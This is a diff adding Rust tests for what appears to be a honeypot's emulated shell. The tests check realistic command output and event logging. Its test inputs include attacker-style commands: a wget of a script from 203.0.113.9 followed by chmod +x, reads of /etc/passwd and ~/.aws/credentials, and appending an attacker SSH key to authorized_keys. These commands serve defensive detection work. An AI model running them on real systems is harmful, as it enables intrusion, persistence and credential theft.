@@ -1,0 +1,108 @@
+use proptest::prelude::*;
+
+use super::*;
+
+fn shell(user: &str) -> Shell {
+    Shell::new(
+        HostInfo {
+            hostname: "SRV-WEB-42".into(),
+            distro: "debian".into(),
+            kernel: "6.1.0-27-amd64".into(),
+            ip: "10.0.0.5".into(),
+        },
+        user,
+    )
+}
+
+#[test]
+fn prompt_and_navigation() {
+    let mut sh = shell("root");
+    assert_eq!(sh.prompt(), "root@SRV-WEB-42:~# ");
+    assert_eq!(sh.run("pwd").text, "/root\n");
+    assert_eq!(sh.run("cd /var/www/html").text, "");
+    assert_eq!(sh.prompt(), "root@SRV-WEB-42:/var/www/html# ");
+    assert_eq!(
+        sh.run("cd /nope").text,
+        "-bash: cd: /nope: No such file or directory\n"
+    );
+    assert_eq!(sh.run("cd").text, "");
+    assert_eq!(sh.run("pwd").text, "/root\n");
+}
+
+#[test]
+fn common_commands_look_real() {
+    let mut sh = shell("root");
+    assert_eq!(
+        sh.run("id").text,
+        "uid=0(root) gid=0(root) groups=0(root)\n"
+    );
+    assert_eq!(sh.run("whoami").text, "root\n");
+    assert!(
+        sh.run("uname -a")
+            .text
+            .starts_with("Linux SRV-WEB-42 6.1.0-27-amd64 #1 SMP")
+    );
+    assert!(sh.run("ls -la").text.contains(".bash_history"));
+    assert!(
+        sh.run("cat /etc/passwd")
+            .text
+            .starts_with("root:x:0:0:root:/root:/bin/bash\n")
+    );
+    assert_eq!(
+        sh.run("cat /etc/os-release | grep PRETTY").text,
+        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"
+    );
+    assert_eq!(sh.run("cat /etc/passwd | wc -l").text, "9\n");
+    assert_eq!(sh.run("foo").text, "-bash: foo: command not found\n");
+    assert!(sh.run("history").text.contains("    1  id\n"));
+}
+
+#[test]
+fn every_command_is_an_event_and_fetches_are_recorded() {
+    let mut sh = shell("root");
+    let out = sh.run("cd /tmp; wget http://203.0.113.9/x.sh && chmod +x x.sh");
+    assert_eq!(out.events[0].kind, "command");
+    assert_eq!(
+        out.events[0].field("cmd"),
+        Some("cd /tmp; wget http://203.0.113.9/x.sh && chmod +x x.sh")
+    );
+    let fetch = out.events.iter().find(|e| e.kind == "url_fetch").unwrap();
+    assert_eq!(fetch.field("url"), Some("http://203.0.113.9/x.sh"));
+    assert!(out.text.contains("Temporary failure in name resolution"));
+    let out = sh.run("cat ~/.aws/credentials");
+    assert!(out.text.contains("aws_access_key_id = AKIA"));
+    assert!(out.events.iter().any(|e| e.kind == "file_read"));
+}
+
+#[test]
+fn redirection_writes_the_overlay() {
+    let mut sh = shell("root");
+    sh.run("echo 'ssh-rsa AAAA attacker' >> /root/.ssh/authorized_keys");
+    assert!(
+        sh.run("cat /root/.ssh/authorized_keys")
+            .text
+            .ends_with("ssh-rsa AAAA attacker\n")
+    );
+    sh.run("echo hi > /tmp/a");
+    assert_eq!(sh.run("cat /tmp/a").text, "hi\n");
+    assert_eq!(
+        sh.run("echo x > /nope/a").text,
+        "-bash: /nope/a: No such file or directory\n"
+    );
+}
+
+#[test]
+fn exit_ends_the_session() {
+    let mut sh = shell("deploy");
+    assert!(sh.prompt().ends_with("$ "));
+    assert!(sh.run("exit").exit);
+}
+
+proptest! {
+    #[test]
+    fn never_panics(line in ".{0,200}") {
+        let mut sh = shell("root");
+        let out = sh.run(&line);
+        prop_assert!(out.text.len() <= MAX_OUTPUT);
+    }
+}
